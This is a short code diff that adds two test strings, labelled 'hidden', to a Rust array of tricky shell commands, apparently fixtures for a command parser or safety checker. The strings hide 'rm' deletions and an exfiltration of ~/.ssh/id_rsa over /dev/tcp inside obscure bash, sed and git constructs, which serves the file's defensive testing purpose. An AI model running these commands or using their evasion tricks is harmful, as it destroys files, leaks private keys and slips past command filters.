@@ -31,6 +31,14 @@ const LINES: &[(&str, &str)] = &[
         "nasty",
         "echo \"x $( case $x in *) echo $(rm -rf y);; esac ) y\" ; eval \"$cmd\"",
     ),
+    (
+        "hidden",
+        "test -v 'a[$(rm x)]' && printf -v 'b[$(id)]' x; [[ $((n+1)) -eq 2 ]] && cat ~/.ssh/id_rsa 3</dev/tcp/h/1 >&3",
+    ),
+    (
+        "hidden",
+        "sed -i -e 's/a/b/w /out' -e '1e rm x' a.txt; git -c alias.x='!rm y' x | bash <<< 'rm z'; sort --o=/tmp/x data",
+    ),
 ];
 
 /// Runs `f` for about `budget` and returns microseconds per call.
